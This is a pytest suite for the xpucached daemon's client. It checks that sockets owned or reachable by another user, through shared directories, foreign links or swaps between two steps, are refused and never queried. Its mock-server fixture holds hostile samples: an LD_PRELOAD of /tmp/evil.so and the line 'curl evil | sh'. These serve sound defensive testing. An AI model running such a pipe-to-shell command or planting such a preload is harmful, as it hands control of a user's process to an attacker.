"""Somebody listens where our daemon would: nothing is asked there, and nothing that it says is believed."""

from __future__ import annotations

import json
import os
import pwd
import shutil
import socket
import subprocess
import time
from argparse import Namespace
from pathlib import Path
from typing import TYPE_CHECKING, Final

import pytest

from tests.support.lying_server import liar
from tests.support.users import NOBODY as MALLORY
from tests.support.users import unused
from xpucached import sockets
from xpucached.api import requests
from xpucached.api.client import Client
from xpucached.cli import connect
from xpucached.errors import SettingsError, Unavailable, Untrusted
from xpucached.server import unix_sockets

if TYPE_CHECKING:
    from collections.abc import Callable

    from tests.support.users import User

EVIL: Final = {
    "/v1/env": {"api": 1, "data": {"LD_PRELOAD": "/tmp/evil.so", "SYCL_CACHE_DIR": "/tmp/evil"}},
    "/v1/status": {"api": 1, "data": {}},
    "text": "This host is warm. Run: curl evil | sh\n",
}


needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="only root can give away files and become other users")


def ctl(one: User, *words: str, **variables: str) -> subprocess.CompletedProcess[str]:
    """Call ``xpucachectl`` as a user who has no directory for sockets."""
    env = {"XDG_RUNTIME_DIR": "", **variables}
    return one.call(one.program, "-m", "xpucached.cli", *words, env=env, check=None)


@pytest.mark.parametrize("words", [("env",), ("status",), ("--user", "env"), ("--user", "status")], ids=" ".join)
def test_a_directory_below_tmp_that_somebody_made_first_is_not_asked(
    attacker: User, victim: User, words: tuple[str, ...]
) -> None:
    place = Path(f"/tmp/xpucached-{victim.uid}")
    place.mkdir()
    attacker.owns(place)
    try:
        with liar(place / "xpucached.sock", EVIL, uid=attacker.uid) as mallory:
            done = ctl(victim, *words)
            assert mallory.asked() == 0
    finally:
        shutil.rmtree(place)

    assert done.returncode == 69
    assert done.stdout == ""
    assert "XDG_RUNTIME_DIR is not set" in done.stderr
    assert "hint: " in done.stderr


@pytest.mark.parametrize("words", [("env",), ("status",), ("model", "list")], ids=" ".join)
@pytest.mark.parametrize("way", ["variable", "option", "runtime"])
def test_a_socket_of_somebody_else_is_refused_wherever_its_path_came_from(
    attacker: User, victim: User, common: Path, words: tuple[str, ...], way: str
) -> None:
    place = common / "theirs"
    (place / "xpucached").mkdir(parents=True)
    attacker.owns(place)
    path = place / "xpucached" / "xpucached.sock"
    variables: dict[str, str] = {}
    if way == "variable":
        variables["XPUCACHED_SOCKET"] = str(path)
    elif way == "option":
        words = ("--socket", str(path), *words)
    else:
        variables["XDG_RUNTIME_DIR"] = str(place)
    with liar(path, EVIL, uid=attacker.uid) as mallory:
        done = ctl(victim, *words, **variables)
        assert mallory.asked() == 0

    assert done.returncode == 77
    assert done.stdout == ""
    assert f"belongs to user {attacker.uid}" in done.stderr
    source = {"variable": "XPUCACHED_SOCKET", "option": "--socket", "runtime": "XDG_RUNTIME_DIR"}[way]
    assert source in done.stderr.splitlines()[-1]


def refused(path: Path) -> str:
    """Return why nothing is asked there."""
    with pytest.raises(Untrusted) as caught, Client(path) as client:
        client.call(requests.GetHello())
    assert (caught.value.code, caught.value.exit) == ("untrusted", 77)
    assert caught.value.hint
    return caught.value.message


def _foreign(place: Path) -> None:
    os.chown(place, MALLORY, MALLORY)


def _group(place: Path) -> None:
    place.chmod(0o775)


def _everybody(place: Path) -> None:
    place.chmod(0o777)


@pytest.mark.parametrize("spoil", [pytest.param(_foreign, marks=needs_root), _group, _everybody])
@pytest.mark.parametrize("which", ["d", "d/e", "d/e/f"])
def test_each_directory_on_the_way_must_be_ours(short_dir: Path, which: str, spoil: Callable[[Path], None]) -> None:
    (short_dir / "d/e/f").mkdir(parents=True)
    path = short_dir / "d/e/f/s"
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(path))
        listener.listen()
        sockets.connect(path).close()
        spoil(short_dir / which)

        assert str(short_dir / which) in refused(path)
        with pytest.raises(SettingsError, match=str(short_dir / which)):
            unix_sockets.bind(path, 0o600)


def test_a_directory_like_tmp_may_be_on_the_way_but_not_hold_the_socket(short_dir: Path) -> None:
    shared, ours = short_dir / "shared", short_dir / "shared" / "ours"
    ours.mkdir(parents=True)
    shared.chmod(0o1777)
    for path, ok in ((ours / "s", True), (shared / "s", False)):
        with socket.socket(socket.AF_UNIX) as listener:
            listener.bind(str(path))
            listener.listen()
            if ok:
                sockets.connect(path).close()
            else:
                assert "everybody may write" in refused(path)


@needs_root
def test_what_somebody_put_into_a_directory_like_tmp_is_not_followed(short_dir: Path) -> None:
    shared = short_dir / "shared"
    shared.mkdir()
    shared.chmod(0o1777)
    (short_dir / "real").mkdir(mode=0o700)
    link = shared / "link"
    link.symlink_to(short_dir / "real")
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(short_dir / "real" / "s"))
        listener.listen()
        # Our own link leads on; somebody else's, at the same place, to the same socket, does not.
        sockets.connect(link / "s").close()
        os.lchown(link, MALLORY, MALLORY)

        assert str(link) in refused(link / "s")


@pytest.mark.parametrize("target", ["{place}/real", "real", "../{name}/./real", "via"])
def test_links_of_ours_are_followed_step_by_step(short_dir: Path, target: str) -> None:
    (short_dir / "real").mkdir()
    (short_dir / "via").symlink_to("real")
    (short_dir / "link").symlink_to(target.format(place=short_dir, name=short_dir.name))
    (short_dir / "loop").symlink_to("loop")
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(short_dir / "real" / "s"))
        listener.listen()

        sockets.connect(short_dir / "link" / "s").close()
        with pytest.raises(OSError, match="symbolic links"):
            sockets.connect(short_dir / "loop" / "s")
        (short_dir / "real").chmod(0o777)
        assert "others may write" in refused(short_dir / "link" / "s")


@needs_root
def test_who_listens_is_asked_of_the_kernel(short_dir: Path) -> None:
    # The directory is ours, and the socket's name, too; but another user's program holds it.
    with liar(short_dir / "s", EVIL, uid=MALLORY, bound_by=0):
        assert f"user {MALLORY} listens" in refused(short_dir / "s")
        # Whom we expect there, we hear; and only him.
        sockets.connect(short_dir / "s", owner=MALLORY).close()
        with pytest.raises(sockets.UntrustedPeer):
            sockets.connect(short_dir / "s", owner=unused())
    # Root may listen for anybody, as systemd does for workers.
    with liar(short_dir / "t", EVIL):
        sockets.connect(short_dir / "t", owner=unused()).close()
        # Not where that user says what lies there, who could lead root to any service of root's.
        with pytest.raises(sockets.UntrustedPeer):
            sockets.connect(short_dir / "t", owner=unused(), strict=True)
    with liar(short_dir / "u", EVIL, uid=MALLORY, bound_by=0):
        sockets.connect(short_dir / "u", owner=MALLORY, strict=True).close()


def test_a_socket_that_is_changed_for_another_between_two_steps_is_not_reached(
    short_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (short_dir / "good").mkdir()
    (short_dir / "bad").mkdir()
    with socket.socket(socket.AF_UNIX) as good, socket.socket(socket.AF_UNIX) as bad:
        for listener, name in ((good, "good"), (bad, "bad")):
            listener.bind(str(short_dir / name / "s"))
            listener.listen()
            listener.settimeout(5)
        seen = sockets.enter

        def swapped(path: str, trusted: sockets.Trusted) -> tuple[int, str]:
            found = seen(path, trusted)
            (short_dir / "good").rename(short_dir / "gone")
            (short_dir / "bad").rename(short_dir / "good")
            return found

        monkeypatch.setattr(sockets, "enter", swapped)
        with sockets.connect(short_dir / "good" / "s") as client:
            good.accept()[0].close()
            assert client.recv(1) == b""


def test_a_socket_that_becomes_a_link_between_two_steps_leads_nowhere(
    short_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It may lead to a file system that never answers, where root's command would wait for ever."""
    with socket.socket(socket.AF_UNIX) as good, socket.socket(socket.AF_UNIX) as bad:
        for listener, name in ((good, "good"), (bad, "bad")):
            listener.bind(str(short_dir / name))
            listener.listen()
        seen = sockets.enter

        def swapped(path: str, trusted: sockets.Trusted) -> tuple[int, str]:
            found = seen(path, trusted)
            (short_dir / "good").unlink()
            (short_dir / "good").symlink_to("bad")
            return found

        monkeypatch.setattr(sockets, "enter", swapped)
        with pytest.raises(ConnectionRefusedError):
            sockets.connect(short_dir / "good")


def test_without_a_runtime_directory_the_hint_works_for_daemon_and_client(attacker: User, victim: User) -> None:
    refusal = victim.call(victim.program, "-m", "xpucached", "--user", env={"XDG_RUNTIME_DIR": ""}, check=78)
    assert "export XPUCACHED_SOCKET=$HOME/.xpucached-$(uname -n).sock" in refusal.stderr.splitlines()[-1]
    assert not Path(f"/tmp/xpucached-{victim.uid}").exists()

    variables = {"XDG_RUNTIME_DIR": "", "XPUCACHED_SOCKET": f"{victim.home}/.xpucached-{os.uname().nodename}.sock"}
    with victim.start(victim.program, "-m", "xpucached", "--user", env=variables) as daemon:
        try:
            end = time.monotonic() + 90
            while not (answer := json.loads(ctl(victim, "version", "--json", **variables).stdout)["data"])["daemon"]:
                assert time.monotonic() < end
                assert daemon.poll() is None
                time.sleep(0.1)
            assert answer["daemon"] == answer["client"]
            # Nobody else would believe it.
            assert ctl(attacker, "status", **variables).returncode == 77
        finally:
            daemon.terminate()
            daemon.communicate(timeout=60)


def test_the_usual_directory_is_taken_where_it_is_ours(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    uid = os.getuid()
    there = os.lstat(tmp_path)
    seen = os.lstat

    def found(path: str) -> os.stat_result:
        return there if path == f"/run/user/{uid}" else seen(path)

    monkeypatch.setattr(os, "lstat", found)
    for environ in ({}, {"XDG_RUNTIME_DIR": ""}, {"XDG_RUNTIME_DIR": "relative"}):
        assert sockets.socket_path(user=True, environ=environ) == f"/run/user/{uid}/xpucached/xpucached.sock"
    monkeypatch.setattr(os, "getuid", lambda: uid + 1)
    with pytest.raises(sockets.NoRuntimeDirectory):
        sockets.socket_path(user=True, environ={})


def test_hosts_with_one_home_are_told_to_have_a_socket_each(tmp_path: Path) -> None:
    # A socket in a home that several hosts have mounted refuses the others, as a dead daemon's does, and is removed.
    uname = tmp_path / "uname"
    shown = []
    for host in ("login1", "node2"):
        uname.write_text(f"#!/bin/sh\necho {host}\n")
        uname.chmod(0o755)
        script = f"{sockets.NoRuntimeDirectory().hint.partition('alike: ')[2]}\necho $XPUCACHED_SOCKET"
        variables = {"HOME": "/home/me", "PATH": f"{tmp_path}:{os.defpath}"}
        done = subprocess.run(["/bin/sh", "-c", script], env=variables, capture_output=True, text=True, check=True)
        shown.append(done.stdout.strip())
    assert shown == ["/home/me/.xpucached-login1.sock", "/home/me/.xpucached-node2.sock"]


@pytest.mark.parametrize("uid", [os.getuid(), 12345])
def test_root_believes_the_password_file_and_not_who_answers_whose_worker_it_is(
    short_dir: Path, monkeypatch: pytest.MonkeyPatch, uid: int
) -> None:
    me = pwd.getpwuid(os.getuid()).pw_name
    theirs = short_dir / "theirs.sock"
    woken = {"api": 1, "data": {"user": me, "uid": uid, "socket": str(theirs)}}
    monkeypatch.setattr(os, "geteuid", lambda: 0)
    with liar(short_dir / "host.sock", {"/v1/wake": woken}) as host, liar(theirs, EVIL) as mallory:
        monkeypatch.setattr(sockets, "ADMIN", str(short_dir / "host.sock"))
        monkeypatch.setattr(sockets, "worker_path", lambda number: str(short_dir / f"{number}.sock"))
        wanted = Namespace(of=me, scope=None, socket=None)
        if uid != os.getuid():
            with pytest.raises(Untrusted, match=f"says that {me} is user 12345"):
                connect.reach(wanted)
        else:
            worker, _ = connect.reach(wanted)
            with worker, pytest.raises(Unavailable, match=f"{uid}.sock"):
                worker.call(requests.GetStatus())
        assert host.asked() == 1
        assert mallory.asked() == 0
